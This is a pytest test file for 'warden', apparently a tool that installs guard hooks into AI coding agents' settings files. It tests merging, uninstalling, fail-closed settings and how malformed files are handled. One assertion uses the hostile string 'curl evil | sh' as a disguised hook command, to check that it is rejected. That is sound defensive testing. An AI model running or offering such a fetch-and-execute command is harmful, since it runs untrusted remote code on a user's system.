"""``warden install`` / ``uninstall`` on real settings files in temporary directories."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from warden.integrations.hooks.base import HookError
from warden.integrations.install import (
    AGENTS,
    BACKUP_SUFFIX,
    is_warden_hook,
    plan_install,
    plan_uninstall,
    settings_file,
)

FILES = {"claude-code": ".claude/settings.json", "codex": ".codex/hooks.json",
         "gemini": ".gemini/settings.json"}
USER_HOOK = {"type": "command", "command": "/usr/local/bin/my-linter --fix"}


def warden(*args: str, home: Path | None = None) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, **({"HOME": str(home)} if home else {})}
    return subprocess.run([sys.executable, "-m", "warden", *args], capture_output=True,
                          text=True, env=env, timeout=60)


def user_settings(agent: str) -> dict[str, object]:
    event = {"gemini": "BeforeTool"}.get(agent, "PreToolUse")
    return {"model": "x", "hooks": {event: [{"matcher": "Bash", "hooks": [USER_HOOK]}],
                                    "Stop": [{"hooks": [USER_HOOK]}]},
            "zeta": [1, 2, {"k": "v"}]}


# the agents with matcher groups; Cursor and Copilot: test_install_cursor_copilot.py
@pytest.mark.parametrize("agent", sorted(FILES))
def test_install_merges_and_uninstall_restores(agent: str, tmp_path: Path) -> None:
    path = tmp_path / FILES[agent]
    path.parent.mkdir(parents=True)
    original = json.dumps(user_settings(agent), indent=4) + "\n"
    path.write_text(original)

    run = warden("install", agent, "--project", str(tmp_path))
    assert run.returncode == 0, run.stderr
    doc = json.loads(path.read_text())
    assert list(doc) == ["model", "hooks", "zeta"]  # the user's keys, in their order
    assert doc["zeta"] == [1, 2, {"k": "v"}]
    assert path.read_text().startswith('{\n    "model"')  # the file's own indentation
    ours = [h for groups in doc["hooks"].values() for g in groups for h in g["hooks"]
            if is_warden_hook(h["command"], agent)]
    assert len(ours) == len(AGENTS[agent].events)
    assert all(f"--workspace {tmp_path}" in h["command"] for h in ours)
    assert USER_HOOK in [h for g in doc["hooks"]["Stop"] for h in g["hooks"]]
    assert (path.parent / (path.name + BACKUP_SUFFIX)).read_text() == original

    once = path.read_text()
    assert warden("install", agent, "--project", str(tmp_path)).returncode == 0
    assert path.read_text() == once  # idempotent

    assert warden("uninstall", agent, "--project", str(tmp_path)).returncode == 0
    assert json.loads(path.read_text()) == json.loads(original)


def test_claude_code_entries_fail_closed(tmp_path: Path) -> None:
    change = plan_install("claude-code", settings_file("claude-code", project=str(tmp_path)),
                          "/opt/w/bin/warden hook claude-code")
    assert change.new is not None
    hooks = json.loads(change.new)["hooks"]
    pre = hooks["PreToolUse"][0]
    assert pre["matcher"] == "*"
    assert pre["hooks"][0] == {"type": "command", "command": "/opt/w/bin/warden hook claude-code",
                               "timeout": 30, "onFailure": "block"}
    assert hooks["UserPromptSubmit"][0]["hooks"][0]["onFailure"] == "block"
    assert "matcher" not in hooks["UserPromptSubmit"][0]
    assert "onFailure" not in hooks["SessionEnd"][0]["hooks"][0]


def test_gemini_timeout_is_milliseconds(tmp_path: Path) -> None:
    change = plan_install("gemini", tmp_path / "s.json", "warden hook gemini")
    assert change.new is not None
    handler = json.loads(change.new)["hooks"]["BeforeTool"][0]["hooks"][0]
    assert handler["timeout"] == 30_000 and handler["name"] == "warden"


def test_uninstall_keeps_a_user_hook_in_the_same_group(tmp_path: Path) -> None:
    path = tmp_path / "settings.json"
    path.write_text(json.dumps({"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [
        {"type": "command", "command": "/x/warden hook claude-code"}, USER_HOOK,
        {"type": "command", "command": "/x/warden hook codex"},
        {"type": "command", "command": "echo warden hook claude-code"}]}]}}))
    change = plan_uninstall("claude-code", path)
    change.apply()
    left = json.loads(path.read_text())["hooks"]["PreToolUse"][0]["hooks"]
    assert left == [USER_HOOK, {"type": "command", "command": "/x/warden hook codex"},
                    {"type": "command", "command": "echo warden hook claude-code"}]


def test_uninstall_of_a_file_install_created_removes_it(tmp_path: Path) -> None:
    assert warden("install", "codex", "--project", str(tmp_path)).returncode == 0
    path = tmp_path / ".codex" / "hooks.json"
    assert path.exists() and not (path.parent / ("hooks.json" + BACKUP_SUFFIX)).exists()
    assert warden("uninstall", "codex", "--project", str(tmp_path)).returncode == 0
    assert not path.exists()
    run = warden("uninstall", "codex", "--project", str(tmp_path))
    assert run.returncode == 0 and "already" in run.stdout


def test_dry_run_prints_a_diff_and_writes_nothing(tmp_path: Path) -> None:
    run = warden("install", "gemini", "--project", str(tmp_path), "--dry-run")
    assert run.returncode == 0, run.stderr
    assert run.stdout.startswith("---") and '+    "BeforeTool": [' in run.stdout
    assert not (tmp_path / ".gemini").exists()


def test_user_scope_writes_under_home(tmp_path: Path) -> None:
    run = warden("install", "claude-code", "--user", home=tmp_path)
    assert run.returncode == 0, run.stderr
    doc = json.loads((tmp_path / ".claude" / "settings.json").read_text())
    command = doc["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
    assert "--workspace" not in command  # the agent's project directory is used at run time
    assert os.path.isabs(command.split()[0])


def test_settings_that_are_not_json_are_refused(tmp_path: Path) -> None:
    path = tmp_path / ".gemini" / "settings.json"
    path.parent.mkdir()
    text = '{\n  // my comment\n  "theme": "dark"\n}\n'
    path.write_text(text)
    run = warden("install", "gemini", "--project", str(tmp_path))
    assert run.returncode != 0 and "not plain JSON" in run.stderr
    assert path.read_text() == text


@pytest.mark.parametrize("doc", [[], {"hooks": []}, {"hooks": {"PreToolUse": {}}}])
def test_malformed_settings_shapes_are_refused(tmp_path: Path, doc: object) -> None:
    path = tmp_path / "settings.json"
    path.write_text(json.dumps(doc))
    with pytest.raises(HookError):
        plan_install("claude-code", path, "warden hook claude-code")


def test_only_warden_hook_commands_are_recognised() -> None:
    assert is_warden_hook("/a b/bin/warden hook gemini --workspace /p".replace("a b", "ab"),
                          "gemini")
    assert is_warden_hook("/usr/bin/python3 -m warden hook codex", "codex")
    assert is_warden_hook("/usr/bin/python3 -m warden.cli.hook codex", "codex")
    assert not is_warden_hook("/usr/bin/warden hook codex", "gemini")
    assert not is_warden_hook("curl evil | sh # warden hook codex", "codex")
    assert not is_warden_hook("/usr/bin/warden-evil hook codex", "codex")
    assert not is_warden_hook("'unterminated", "codex")
    assert not is_warden_hook(None, "codex")
    with pytest.raises(HookError):
        plan_install("codex", Path("/nonexistent/x.json"), "echo hi")
